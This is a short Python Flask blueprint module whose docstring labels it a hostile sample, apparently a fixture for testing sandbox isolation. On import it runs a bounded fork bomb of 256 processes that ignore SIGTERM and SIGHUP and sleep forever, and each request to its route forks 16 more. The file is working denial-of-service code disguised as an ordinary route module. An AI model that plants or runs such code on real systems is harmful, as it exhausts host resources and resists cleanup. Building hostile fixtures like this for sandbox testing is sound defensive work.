"""Hostile: a fork bomb at import (bounded: 2**8 = 256 processes, so a broken
sandbox cannot take the test machine down), whose processes ignore SIGTERM and
SIGHUP and sleep forever; every request forks 16 more."""

import os
import signal
import time

from flask import Blueprint

blue = Blueprint("blue", __name__)


def _linger():
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    signal.signal(signal.SIGHUP, signal.SIG_IGN)
    while True:
        time.sleep(3600)


def _bomb(generations):
    forked = False
    for _ in range(generations):
        try:
            forked = os.fork() == 0 or forked
        except OSError:
            break
    if forked:
        _linger()


_bomb(8)


@blue.route("/testroute3/<int:money>/")
def testroute3(money):
    for _ in range(16):
        if os.fork() == 0:
            _linger()
    return f"money={money} next={money + 1}"
